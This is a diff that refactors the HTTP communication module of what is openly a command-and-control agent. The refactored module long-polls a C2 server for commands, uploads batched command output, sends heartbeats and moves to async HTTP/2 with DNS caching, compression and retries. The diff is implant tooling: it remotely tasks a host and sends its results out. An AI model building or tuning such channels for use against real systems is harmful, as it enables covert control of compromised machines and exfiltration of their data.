@@ -3,18 +3,138 @@ Agent.protocols.http_comm
 
 Handles communication over HTTP for agent interaction with the C2 server.
 Supports polling for commands, sending output, sending messages, and heartbeat signals.
+All requests share a single `httpx.AsyncClient` speaking HTTP/2, so concurrent polls,
+heartbeats and output uploads are multiplexed as streams over one TLS connection and
+the agent's event loop is never blocked on network I/O. The remote configuration fetch
+in `config` uses the same client and connection pool.
 """
 #!/usr/bin/env python3
 
-import requests
+import asyncio
+import gzip
+import ipaddress
+import socket
+import time
+import httpx
+import orjson
+
+try:
+    import zstandard
+except ImportError:  # Fall back to gzip, which every server-side stack understands
+    zstandard = None
 from ..logger import logger
 from base import BaseComm
 
+# Seconds a resolved C2 host address is reused before it is looked up again
+DNS_CACHE_TTL = 60
+
+# Upper bounds for one batched output upload
+MAX_BATCH_ITEMS = 64
+MAX_BATCH_BYTES = 256 * 1024
+
+JSON_HEADERS = {"Content-Type": "application/json"}
+
+# Request bodies larger than this are compressed before upload
+COMPRESS_MIN_SIZE = 1024
+
+# Transient failures are retried on the pooled connection with exponential backoff
+RETRY_TOTAL = 3
+RETRY_BACKOFF = 0.1
+RETRY_STATUSES = frozenset({502, 503, 504})
+
+# Longest a server's Retry-After may hold up a single request, in seconds
+RETRY_MAX_DELAY = 30
+
+# Resolved addresses shared by all HTTPComm instances: host -> (expires_at, ip)
+_dns_cache: dict[str, tuple[float, str]] = {}
+
+# The agent's only HTTP client, created on first use
+_client = None
+
+
+def get_client() -> httpx.AsyncClient:
+    """
+    Returns the agent's shared HTTP client, creating it on first use.
+
+    The client speaks HTTP/2 and falls back to keep-alive HTTP/1.1 if the server
+    does not negotiate h2. Every HTTP request the agent makes goes through it, so
+    they all share one connection pool.
+
+    Returns:
+        httpx.AsyncClient: The shared client.
+    """
+    global _client
+    if _client is None or _client.is_closed:
+        _client = httpx.AsyncClient(
+            http2=True,
+            timeout=httpx.Timeout(5.0, connect=3.0),
+            limits=httpx.Limits(max_keepalive_connections=4, max_connections=10, keepalive_expiry=300),
+        )
+    return _client
+
+
+async def close_client():
+    """
+    Closes the shared HTTP client and its pooled connections, if it was opened.
+    """
+    if _client is not None and not _client.is_closed:
+        await _client.aclose()
+
+
+async def resolve_host(host: str) -> str:
+    """
+    Resolves `host` to an IP address, serving repeat lookups from an in-process TTL cache.
+
+    Args:
+        host (str): Hostname (or IP literal) of the C2 server.
+
+    Returns:
+        str: The IP address to connect to.
+    """
+    try:
+        ipaddress.ip_address(host)
+        return host  # Already an IP literal, nothing to resolve
+    except ValueError:
+        pass
+
+    now = time.monotonic()
+    hit = _dns_cache.get(host)
+    if hit and hit[0] > now:
+        return hit[1]
+
+    infos = await asyncio.get_running_loop().getaddrinfo(host, None, type=socket.SOCK_STREAM)
+    ip = infos[0][4][0]
+    _dns_cache[host] = (now + DNS_CACHE_TTL, ip)
+    return ip
+
+
+def prime_host(host: str):
+    """
+    Resolves `host` synchronously and seeds the TTL cache, so the agent's first
+    requests connect without waiting on a lookup. Failures are left to `resolve_host`.
+
+    Args:
+        host (str): Hostname (or IP literal) of the C2 server.
+    """
+    try:
+        ipaddress.ip_address(host)
+        return  # IP literals never need resolving
+    except ValueError:
+        pass
+
+    try:
+        _, _, ips = socket.gethostbyname_ex(host)
+    except OSError:
+        return
+    if ips:
+        _dns_cache[host] = (time.monotonic() + DNS_CACHE_TTL, ips[0])
+
+
 class HTTPComm(BaseComm):
     """
     Implements HTTP-based communication for the agent.
     """
-    def __init__(self, server_url: str, agent_id: str, auth_token: str):
+    def __init__(self, server_url: str, agent_id: str, auth_token: str, poll_wait: int = 30):
         """
         Initializes the HTTP communication module.
 
@@ -22,52 +142,205 @@ class HTTPComm(BaseComm):
             server_url (str): The base URL of the C2 server.
             agent_id (str): The unique identifier of the agent.
             auth_token (str): Authentication token for secure communication.
+            poll_wait (int): Seconds the server may hold a command poll open (long-polling).
         """
         self.server_url = server_url.rstrip('/')
+        # Endpoint paths and URLs are fixed for the lifetime of the agent, so build them once
+        self._paths = {
+            endpoint: f"/api/agent/{endpoint}"
+            for endpoint in ("commands", "output_batch", "message", "heartbeat")
+        }
+        self._urls = {endpoint: f"{self.server_url}{path}" for endpoint, path in self._paths.items()}
+        url = httpx.URL(self.server_url)
+        self._scheme = url.scheme
+        self._host = url.host
+        self._port = url.port
+        self._host_header = url.netloc.decode()  # Preserves a non-default port
+        prime_host(self._host)  # Resolve once up front instead of on the first poll
         self.agent_id = agent_id
         self.auth_token = auth_token
+        self.poll_wait = poll_wait
+        # Credentials and poll parameters never change, so build them once
+        self._auth = {"agent_id": agent_id, "auth_token": auth_token}
+        self._poll_params = {**self._auth, "wait": poll_wait}
+        self._poll_timeout = httpx.Timeout(poll_wait + 5, connect=3.0)
+        self._outbox = []  # Command outputs waiting for the next batched upload
+        self._zstd = zstandard.ZstdCompressor(level=3) if zstandard is not None else None
+        self._client = get_client()
+
+    async def _request(self, method: str, endpoint: str, **kwargs) -> httpx.Response:
+        """
+        Sends a request to an agent endpoint, retrying transient failures.
+
+        Responses with a 502/503/504 status and dropped connections are retried up to
+        RETRY_TOTAL times, waiting RETRY_BACKOFF * 2**attempt seconds (or the server's
+        Retry-After) in between, so a brief server hiccup is absorbed here instead of
+        costing the agent a whole polling cycle.
+
+        Args:
+            method (str): HTTP method.
+            endpoint (str): Key into the precomputed endpoint paths.
+            **kwargs: Passed through to `httpx.AsyncClient.request`.
+
+        Returns:
+            httpx.Response: The server response.
+        """
+        for attempt in range(RETRY_TOTAL + 1):
+            last_attempt = attempt == RETRY_TOTAL
+            try:
+                response = await self._send(method, endpoint, **kwargs)
+            except httpx.TransportError:
+                if last_attempt:
+                    raise
+                await asyncio.sleep(RETRY_BACKOFF * 2 ** attempt)
+                continue
+            if response.status_code not in RETRY_STATUSES or last_attempt:
+                return response
+            await asyncio.sleep(self._retry_delay(response, attempt))
 
-    def poll_commands(self):
+    @staticmethod
+    def _retry_delay(response: httpx.Response, attempt: int) -> float:
+        """
+        Returns how long to wait before retrying after `response`.
+
+        Args:
+            response (httpx.Response): The retryable response.
+            attempt (int): Zero-based number of the attempt that failed.
+
+        Returns:
+            float: Seconds to sleep, honoring a numeric Retry-After header up to
+            RETRY_MAX_DELAY.
+        """
+        retry_after = response.headers.get("Retry-After", "")
+        if retry_after.isdigit():
+            return min(float(retry_after), RETRY_MAX_DELAY)
+        return RETRY_BACKOFF * 2 ** attempt
+
+    async def _send(self, method: str, endpoint: str, **kwargs) -> httpx.Response:
+        """
+        Sends a single request to an agent endpoint, connecting to the cached address of the server.
+
+        The URL is built against the resolved IP so no resolver round-trip happens per call,
+        while the Host header and TLS SNI still carry the original hostname.
+
+        Args:
+            method (str): HTTP method.
+            endpoint (str): Key into the precomputed endpoint URLs.
+            **kwargs: Passed through to `httpx.AsyncClient.request`.
+
+        Returns:
+            httpx.Response: The server response.
+        """
+        ip = await resolve_host(self._host)
+        if ip == self._host:
+            return await self._client.request(method, self._urls[endpoint], **kwargs)
+
+        netloc = f"[{ip}]" if ":" in ip else ip
+        if self._port is not None:
+            netloc = f"{netloc}:{self._port}"
+        kwargs["headers"] = {**kwargs.get("headers", {}), "Host": self._host_header}
+        return await self._client.request(
+            method,
+            f"{self._scheme}://{netloc}{self._paths[endpoint]}",
+            extensions={"sni_hostname": self._host},
+            **kwargs,
+        )
+
+    async def _post_json(self, endpoint: str, payload: dict) -> httpx.Response:
+        """
+        POSTs `payload` to an agent endpoint, serialized with orjson.
+
+        Bodies above COMPRESS_MIN_SIZE (typically large command outputs) are sent
+        zstd-compressed, or gzip-compressed when zstandard is not installed.
+
+        Args:
+            endpoint (str): Key into the precomputed endpoint paths.
+            payload (dict): The JSON body to send.
+
+        Returns:
+            httpx.Response: The server response.
+        """
+        body = orjson.dumps(payload)
+        if len(body) <= COMPRESS_MIN_SIZE:
+            return await self._request("POST", endpoint, content=body, headers=JSON_HEADERS)
+
+        if self._zstd is not None:
+            body, encoding = self._zstd.compress(body), "zstd"
+        else:
+            body, encoding = gzip.compress(body, compresslevel=6), "gzip"
+        headers = {**JSON_HEADERS, "Content-Encoding": encoding}
+        return await self._request("POST", endpoint, content=body, headers=headers)
+
+    async def poll_commands(self) -> list:
         """
         Polls the C2 server for new commands.
 
+        The request is a long-poll: the server holds it open for up to `poll_wait`
+        seconds until a command is queued, and answers 204 if none arrived.
+
         Returns:
             list: A list of received commands.
         """
         try:
-            url = f"{self.server_url}/api/agent/commands"
-            params = {"agent_id": self.agent_id, "auth_token": self.auth_token}
-            response = requests.get(url, params=params, timeout=5)
+            response = await self._request(
+                "GET", "commands", params=self._poll_params, timeout=self._poll_timeout
+            )
+            if response.status_code == 204:
+                return []
             if response.status_code == 200:
-                commands = response.json().get("commands", [])
+                commands = orjson.loads(response.content).get("commands", [])
                 logger.info("HTTP commands: %s", commands)
                 return commands
         except Exception as e:
             logger.error("HTTP poll error: %s", e)
         return []
 
-    def send_output(self, output: str) -> bool:
+    async def send_output(self, output: str) -> bool:
         """
-        Sends command execution output to the C2 server.
+        Queues command execution output for the next batched upload.
 
         Args:
             output (str): The command execution result.
 
         Returns:
-            bool: True if successful, False otherwise.
+            bool: Always True; delivery happens in `flush`.
         """
-        try:
-            url = f"{self.server_url}/api/agent/output"
-            payload = {"agent_id": self.agent_id, "auth_token": self.auth_token, "output": output}
-            response = requests.post(url, json=payload, timeout=5)
-            if response.status_code == 200:
-                logger.info("HTTP send_output succeeded")
-                return True
-        except Exception as e:
-            logger.error("HTTP send_output error: %s", e)
-        return False
+        self._outbox.append(output)
+        return True
 
-    def send_message(self, message: str) -> str:
+    async def flush(self) -> bool:
+        """
+        Uploads queued outputs to the C2 server in as few requests as possible.
+
+        Outputs are grouped into batches of at most MAX_BATCH_ITEMS entries and
+        roughly MAX_BATCH_BYTES of payload. If a batch fails, it is kept at the
+        front of the outbox and retried on the next flush.
+
+        Returns:
+            bool: True if the outbox was fully drained, False otherwise.
+        """
+        while self._outbox:
+            batch, size = [], 0
+            for output in self._outbox[:MAX_BATCH_ITEMS]:
+                if batch and size + len(output) > MAX_BATCH_BYTES:
+                    break
+                batch.append(output)
+                size += len(output)
+
+            try:
+                response = await self._post_json("output_batch", {**self._auth, "outputs": batch})
+                if response.status_code != 200:
+                    logger.error("HTTP output batch rejected: %s", response.status_code)
+                    return False
+            except Exception as e:
+                logger.error("HTTP send_output error: %s", e)
+                return False
+
+            del self._outbox[:len(batch)]
+            logger.info("HTTP send_output succeeded (%d outputs)", len(batch))
+        return True
+
+    async def send_message(self, message: str) -> str:
         """
         Sends a generic message to the C2 server.
 
@@ -78,17 +351,16 @@ class HTTPComm(BaseComm):
             str: The response message received from the server.
         """
         try:
-            url = f"{self.server_url}/api/agent/message"
             payload = {"message": message}
-            response = requests.post(url, json=payload, timeout=5)
+            response = await self._post_json("message", payload)
             if response.status_code == 200:
                 logger.info("HTTP send_message succeeded")
-                return response.json().get("response", "")
+                return orjson.loads(response.content).get("response", "")
         except Exception as e:
             logger.error("HTTP send_message error: %s", e)
         return ""
 
-    def heartbeat(self):
+    async def heartbeat(self) -> bool:
         """
         Sends a heartbeat signal to the C2 server.
 
@@ -96,12 +368,16 @@ class HTTPComm(BaseComm):
             bool: True if the heartbeat was successfully sent, False otherwise.
         """
         try:
-            url = f"{self.server_url}/api/agent/heartbeat"
-            payload = {"agent_id": self.agent_id, "auth_token": self.auth_token}
-            response = requests.post(url, json=payload, timeout=5)
+            response = await self._post_json("heartbeat", self._auth)
             if response.status_code == 200:
                 logger.info("HTTP heartbeat sent")
                 return True
         except Exception as e:
             logger.error("HTTP heartbeat error: %s", e)
         return False
+
+    async def close(self):
+        """
+        Closes the shared client and its pooled connections.
+        """
+        await close_client()